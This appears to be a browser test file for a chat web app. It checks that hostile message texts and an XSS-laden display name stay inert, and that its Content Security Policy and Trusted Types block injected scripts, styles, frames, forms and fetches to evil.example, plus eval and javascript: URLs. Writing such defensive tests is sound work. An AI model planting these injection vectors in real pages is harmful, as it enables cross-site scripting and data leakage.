/** Text is never HTML, and the policy blocks what would slip through. */

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { accessible } from './support/axe.js';
import { newcomer } from './support/browser.js';
import { signUp, texts } from './support/chat.js';
import { MARK, harmless, hostile } from './support/hostile.js';
import { world } from './support/world.js';

const here = world();

test('hostile texts are shown as they were written, and do nothing', async (t) => {
  const { ada } = await here.pair(t, { texts: hostile });
  const { page } = ada;
  for (const text of hostile) await shown(page, text);
  assert.deepEqual(await texts(page, hostile[0]), hostile);
  await harmless(page);
  await accessible(page, 'hostile texts');
  await ada.picture('hostile-texts');
});

test('a name of one’s own is a text, too', async (t) => {
  const device = await here.browser.device(t);
  const ada = { ...newcomer('Ada'), displayName: `<img src=x onerror="${MARK}">` };
  await signUp(device.page, ada);
  await device.page.reload();
  await device.page.getByRole('heading', { name: 'Chats' }).waitFor();
  await harmless(device.page);
});

/** What trusted types refuse, before another directive would. */
const TRUSTED = /** @type {const} */ (['require-trusted-types-for', "requires 'Trusted"]);

test('the policy blocks what would slip through', async (t) => {
  const device = await here.browser.device(t, {}, null);
  // Each with the directive that blocks it, and what the browser says then.
  const attempts = [
    // As elements that somebody has got into the page.
    ['an inline script', ...TRUSTED, () => {
      const script = document.createElement('script');
      script.append('globalThis.harmed = true');
      document.body.append(script);
    }],
    ['a script from elsewhere', ...TRUSTED, () => {
      const script = document.createElement('script');
      script.setAttribute('src', 'https://evil.example/x.js');
      document.body.append(script);
    }],
    ['a handler in an attribute', ...TRUSTED, () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'globalThis.harmed = true');
      document.body.append(button);
      button.click();
    }],
    ['a javascript: address', 'script-src-elem', "script-src 'self'", () => {
      const link = document.createElement('a');
      link.setAttribute('href', 'javascript:globalThis.harmed = true');
      document.body.append(link);
      link.click();
    }],
    ['a style element', 'style-src-elem', "style-src 'self'", () => {
      const style = document.createElement('style');
      style.append('body { display: none }');
      document.head.append(style);
    }],
    ['a style attribute', 'style-src-attr', "style-src 'self'", () => {
      const div = document.createElement('div');
      div.setAttribute('style', 'display: none');
      document.body.append(div);
    }],
    ['a sheet from elsewhere', 'style-src-elem', "style-src 'self'", () => {
      const link = document.createElement('link');
      link.setAttribute('rel', 'stylesheet');
      link.setAttribute('href', 'https://evil.example/x.css');
      document.head.append(link);
    }],
    ['a frame', 'frame-src', "default-src 'none'", () => {
      const frame = document.createElement('iframe');
      frame.setAttribute('src', 'https://evil.example/');
      document.body.append(frame);
    }],
    ['a plug-in', ...TRUSTED, () => {
      const plugin = document.createElement('object');
      plugin.setAttribute('data', 'https://evil.example/x.swf');
      document.body.append(plugin);
    }],
    ['a base', 'base-uri', "base-uri 'none'", () => {
      const base = document.createElement('base');
      base.setAttribute('href', 'https://evil.example/');
      document.head.append(base);
    }],
    ['a form that is sent elsewhere', 'form-action', "form-action 'self'", () => {
      const form = document.createElement('form');
      form.setAttribute('action', 'https://evil.example/');
      document.body.append(form);
      form.submit();
    }],
    ['a request elsewhere', 'connect-src', "connect-src 'self'", () =>
      void fetch('https://evil.example/').catch(() => {})],
    // Later, as the page's own code: what the debugger evaluates itself, no policy concerns.
    ['a module from elsewhere', 'script-src-elem', "script-src 'self'", () =>
      void setTimeout(() => import('https://evil.example/x.js').catch(() => {}))],
    ['eval', ...TRUSTED, () => void setTimeout(() => eval('globalThis.harmed = true'))],
    ['a function from a text', ...TRUSTED, () =>
      void setTimeout(() => new Function('globalThis.harmed = true')())],
    ['a timer from a text', ...TRUSTED, () =>
      void setTimeout(() => setTimeout('globalThis.harmed = true'))],
  ];
  // And once more where an exception is nobody's, or a request fails.
  device.guard.expect(/^thrown: EvalError: .* script-src 'self'/);
  device.guard.expect(/^Fetch API cannot load https:\/\/evil\.example\//);
  for (const [what, directive, says, attempt] of attempts) {
    // In a page of its own: what is told there is about this attempt.
    const page = await device.tab();
    await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
    await page.evaluate(() => {
      globalThis.told = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (told) => {
          if (told.disposition === 'enforce') resolve(told.effectiveDirective);
        });
        setTimeout(() => resolve('nothing'), 10_000);
      });
    });
    device.guard.expect(new RegExp(says));
    // Trusted types refuse some of them by an exception besides.
    await page.evaluate(attempt).catch(() => {});
    assert.equal(await page.evaluate(() => globalThis.told), directive, what);
    assert.equal(await page.evaluate(() => globalThis.harmed), undefined, what);
    assert.notEqual(await page.evaluate(() => getComputedStyle(document.body).display), 'none');
    await page.close();
  }
});

test('HTML from a text is refused by the policy', async (t) => {
  const { page, guard } = await here.browser.device(t);
  await page.getByRole('button', { name: 'Sign in', exact: true }).waitFor();
  const refused = await page.evaluate(
    () =>
      new Promise((resolve) => {
        setTimeout(() => {
          try {
            document.body.innerHTML = '<b>x</b>';
            resolve(false);
          } catch (error) {
            resolve(error instanceof TypeError);
          }
        });
      }),
  );
  assert.equal(refused, true);
  guard.take(/TrustedHTML|Trusted Types/);
});

/** A message has this text, letter by letter. */
async function shown(page, text) {
  await page.waitForFunction((wanted) => {
    const shown = document.querySelectorAll('[role=feed] article [dir=auto]');
    return [...shown].some(({ textContent }) => textContent === wanted);
  }, text);
}
